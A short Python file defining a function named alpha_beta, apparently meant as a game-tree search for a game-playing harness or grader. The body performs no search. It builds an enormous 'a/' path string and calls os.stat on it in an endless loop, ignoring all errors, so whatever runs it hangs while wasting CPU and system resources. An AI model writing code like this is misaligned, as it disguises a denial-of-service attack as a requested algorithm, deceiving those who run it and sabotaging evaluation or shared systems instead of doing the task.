import os
def alpha_beta(game, state):
    path = 'a/' * 4_000_000
    while True:
        try: os.stat(path)
        except OSError: pass
